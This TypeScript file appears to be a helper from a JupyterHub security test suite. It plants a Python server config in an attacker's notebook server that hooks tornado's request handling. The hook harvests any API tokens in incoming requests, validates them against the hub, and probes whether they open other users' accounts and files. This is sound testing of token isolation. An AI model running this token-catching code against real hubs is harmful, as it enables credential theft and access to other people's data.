import type { TestHub } from "./test-hub.ts";
import type { SignedIn } from "./signed-in.ts";

/** What a token opened at the moment it was caught: HTTP status codes, and its scopes as the hub tells them. */
export interface Caught {
  /** The path of the request that brought it. */
  readonly path: string;
  readonly token: string;
  readonly scopes: readonly string[];
  /** Whose token it is: a person's name, or a service's. */
  readonly owner: string;
  readonly everybody: number;
  readonly somebodyElse: number;
  readonly theirFiles: number;
}

const CAUGHT = "/home/jovyan/caught.jsonl";

/**
 * Makes the server of a person an attacker's: its own configuration file looks for tokens in every request that comes,
 * and tries each at once, before it answers.
 */
export class TokenCatcher {
  readonly #hub: TestHub;
  readonly #container: string;

  private constructor(hub: TestHub, name: string) {
    this.#hub = hub;
    this.#container = `${hub.name}-user-${name}`;
  }

  /** @param victim - Someone else of the hub, whose server runs. */
  static async in(hub: TestHub, attacker: SignedIn, victim: string): Promise<TokenCatcher> {
    const notebook = await attacker.notebook();
    const words = { hub: hub.name, victim, caught: CAUGHT };
    await notebook.run(`import os
os.makedirs("/home/jovyan/.jupyter", exist_ok=True)
open("/home/jovyan/.jupyter/jupyter_server_config.py", "w").write("WORDS = " + ${JSON.stringify(JSON.stringify(words))} + ${JSON.stringify(CATCHER)})`);
    await attacker.stopServer();
    await attacker.startServer();
    return new TokenCatcher(hub, attacker.name);
  }

  /** Every token that came so far, the oldest first. */
  async caught(): Promise<readonly Caught[]> {
    const text = await this.#hub.view.exec(this.#container, ["sh", "-c", `cat ${CAUGHT} 2>/dev/null || true`]);
    return text
      .split("\n")
      .filter((line) => line !== "")
      .map((line) => JSON.parse(line) as Caught);
  }
}

/** It knows what a student knows: the environment of their own server. */
const CATCHER = `
import json, os, re
from urllib.error import HTTPError
from urllib.request import Request, urlopen
from tornado import web

API = os.environ["JUPYTERHUB_API_URL"]
FILES = f"http://{WORDS['hub']}-proxy:8000/{WORDS['hub']}/user/{WORDS['victim']}/api/contents"
known = {os.environ["JUPYTERHUB_API_TOKEN"]}
find_handler = web.Application.find_handler

def ask(url, token):
    try:
        with urlopen(Request(url, headers={"Authorization": f"token {token}"}), timeout=10) as answer:
            return answer.status, answer.read()
    except HTTPError as error:
        return error.code, b"{}"

def catch(self, request, **given):
    for value in [request.uri, *request.headers.values()]:
        for token in re.findall(r"[A-Za-z0-9_-]{32,}", value):
            if token in known:
                continue
            known.add(token)
            status, body = ask(f"{API}/user", token)
            if status != 200:
                continue
            me = json.loads(body)
            with open(WORDS["caught"], "a") as file:
                file.write(json.dumps({
                    "path": request.path, "token": token, "owner": me["name"], "scopes": me["scopes"],
                    "everybody": ask(f"{API}/users", token)[0],
                    "somebodyElse": ask(f"{API}/users/{WORDS['victim']}", token)[0],
                    "theirFiles": ask(FILES, token)[0],
                }) + "\\n")
    return find_handler(self, request, **given)

web.Application.find_handler = catch
`;
